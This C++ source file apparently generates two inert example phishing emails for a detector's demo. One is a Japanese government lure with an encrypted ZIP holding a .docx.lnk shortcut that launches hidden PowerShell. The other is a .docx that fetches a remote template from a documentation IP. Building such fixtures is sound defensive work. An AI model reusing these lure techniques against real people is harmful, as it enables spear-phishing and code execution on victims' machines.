// Writes the bundled example lures that carry attachments (examples/07-*, 08-*) from
// the inert builders the tests use, so the demo shows what the analyzers find. The
// shortcut only NAMES powershell, and the template address is a documentation one
// (RFC 5737); nothing here can run. Run by hand after changing the builders:
//   ninja -C build make_examples && build/tests/make_examples examples/
#include <archive.h>
#include <archive_entry.h>

#include <cstdio>
#include <fstream>
#include <string>

#include "support/docx_builder.h"
#include "support/lnk_builder.h"

namespace {

std::string base64_lines(const std::string& in) {
    static constexpr char kAlphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    std::size_t col = 0;
    for (std::size_t i = 0; i < in.size(); i += 3) {
        unsigned v = static_cast<unsigned char>(in[i]) << 16;
        if (i + 1 < in.size()) v |= static_cast<unsigned char>(in[i + 1]) << 8;
        if (i + 2 < in.size()) v |= static_cast<unsigned char>(in[i + 2]);
        out += kAlphabet[(v >> 18) & 63];
        out += kAlphabet[(v >> 12) & 63];
        out += i + 1 < in.size() ? kAlphabet[(v >> 6) & 63] : '=';
        out += i + 2 < in.size() ? kAlphabet[v & 63] : '=';
        if ((col += 4) == 76) {
            out += '\n';
            col = 0;
        }
    }
    if (col) out += '\n';
    return out;
}

// A ZIP with one member, ZipCrypto-encrypted with `password` (libarchive's writer).
std::string encrypted_zip(const std::string& name, const std::string& data,
                          const std::string& password) {
    std::string out(data.size() + 4096, '\0');
    std::size_t used = 0;
    archive* a = archive_write_new();
    archive_write_set_format_zip(a);
    archive_write_set_options(a, "zip:encryption=zipcrypt");
    archive_write_set_passphrase(a, password.c_str());
    archive_write_open_memory(a, out.data(), out.size(), &used);
    archive_entry* e = archive_entry_new();
    archive_entry_set_pathname_utf8(e, name.c_str());
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    archive_entry_set_size(e, static_cast<la_int64_t>(data.size()));
    archive_entry_set_mtime(e, 1732665600, 0);  // 2024-11-27, so the output is stable
    archive_write_header(a, e);
    archive_write_data(a, data.data(), data.size());
    archive_entry_free(e);
    archive_write_close(a);
    archive_write_free(a);
    out.resize(used);
    return out;
}

bool write(const std::string& path, const std::string& text) {
    std::ofstream f(path, std::ios::binary);
    f << text;
    return static_cast<bool>(f);
}

std::string lure_ja_encrypted_lnk() {
    kagami::test::lnk::Options o;
    o.target = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    o.arguments = "-w hidden -c \"Write-Output kagami-example\"";
    o.icon_location = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
    o.icon_index = 11;
    o.show_command = 7;  // SW_SHOWMINNOACTIVE
    o.working_dir = "%TEMP%";
    o.machine_id = "desktop-kagami1";  // NetBIOS: at most 15 characters
    o.creation_time = o.access_time = o.write_time = kagami::test::lnk::kSampleTime;
    auto zip = encrypted_zip("日米豪印協力に関する意見交換資料.docx.lnk",
                             kagami::test::lnk::build(o), "Quad2024!");
    return "Received: from mail-relay.example.net (unknown [198.51.100.23])\n"
           "\tby mx.example.go.jp (Postfix) with ESMTP id 4A1B2C3D\n"
           "\tfor <tanaka@example.go.jp>; Thu, 28 Nov 2024 10:12:09 +0900 (JST)\n"
           "From: =?UTF-8?B?5YaF6Zaj5bqcIOWbvemam+WNlOWKm+iqsg==?= <cao.kokusai@outlook.com>\n"
           "To: tanaka@example.go.jp\n"
           "Subject: =?UTF-8?B?44CQ6KaB56K66KqN44CR5pel57Gz6LGq5Y2w5Y2U5Yqb44Gr6Zai44GZ44KL"
           "5oSP6KaL5Lqk5o+b6LOH5paZ?=\n"
           "Date: Thu, 28 Nov 2024 10:12:01 +0900\n"
           "Message-ID: <lure-0007@outlook.example>\n"
           "MIME-Version: 1.0\n"
           "Content-Type: multipart/mixed; boundary=\"=_mixed_07\"\n\n"
           "--=_mixed_07\nContent-Type: text/plain; charset=UTF-8\n"
           "Content-Transfer-Encoding: 8bit\n\n"
           "田中様\n\n日米豪印協力に関する意見交換の資料をお送りします。\n"
           "ご多忙のところ恐縮ですが、12月2日までにご確認をお願いいたします。\n\n"
           "添付ファイルのパスワード：Quad2024!\n\n内閣府 国際協力課\n\n"
           "--=_mixed_07\nContent-Type: application/zip\n"
           "Content-Disposition: attachment; "
           "filename*=UTF-8''%E6%84%8F%E8%A6%8B%E4%BA%A4%E6%8F%9B%E8%B3%87%E6%96%99.zip\n"
           "Content-Transfer-Encoding: base64\n\n" +
           base64_lines(zip) + "\n--=_mixed_07--\n";
}

std::string lure_en_remote_template() {
    kagami::test::docx::Options o;
    o.body = "<w:p><w:r><w:t>Agenda: maritime security dialogue, Session 3.</w:t></w:r></w:p>";
    o.settings_rels.push_back(kagami::test::docx::relationship(
        "rId1", "attachedTemplate", "http://203.0.113.7/templates/agenda.dotm", true));
    auto docx = kagami::test::docx::build(o);
    return "Received: from smtp.example-think-tank.org (smtp.example-think-tank.org "
           "[203.0.113.45])\n"
           "\tby mx.example.ac.jp (Postfix) with ESMTPS id 9F8E7D6C\n"
           "\tfor <sato@example.ac.jp>; Fri, 29 Nov 2024 16:40:12 +0900 (JST)\n"
           "From: \"Policy Forum Secretariat\" <secretariat@example-think-tank.org>\n"
           "Reply-To: policyforum.office@gmail.com\n"
           "To: sato@example.ac.jp\n"
           "Subject: Invitation and agenda: Indo-Pacific maritime security dialogue\n"
           "Date: Fri, 29 Nov 2024 15:40:05 +0800\n"
           "Message-ID: <lure-0008@example-think-tank.org>\n"
           "MIME-Version: 1.0\n"
           "Content-Type: multipart/mixed; boundary=\"=_mixed_08\"\n\n"
           "--=_mixed_08\nContent-Type: text/plain; charset=us-ascii\n\n"
           "Dear Professor Sato,\n\nPlease find attached the agenda of our closed-door dialogue.\n"
           "We would be grateful for your comments on Session 3 by Tuesday.\n\n"
           "Policy Forum Secretariat\n\n"
           "--=_mixed_08\nContent-Type: application/vnd.openxmlformats-officedocument."
           "wordprocessingml.document; name=\"Agenda_Session3.docx\"\n"
           "Content-Disposition: attachment; filename=\"Agenda_Session3.docx\"\n"
           "Content-Transfer-Encoding: base64\n\n" +
           base64_lines(docx) + "\n--=_mixed_08--\n";
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: make_examples EXAMPLES_DIR\n");
        return 2;
    }
    std::string dir = argv[1];
    bool ok = write(dir + "/07-lure-ja-encrypted-lnk.eml", lure_ja_encrypted_lnk()) &&
              write(dir + "/08-lure-en-remote-template.eml", lure_en_remote_template());
    return ok ? 0 : 1;
}
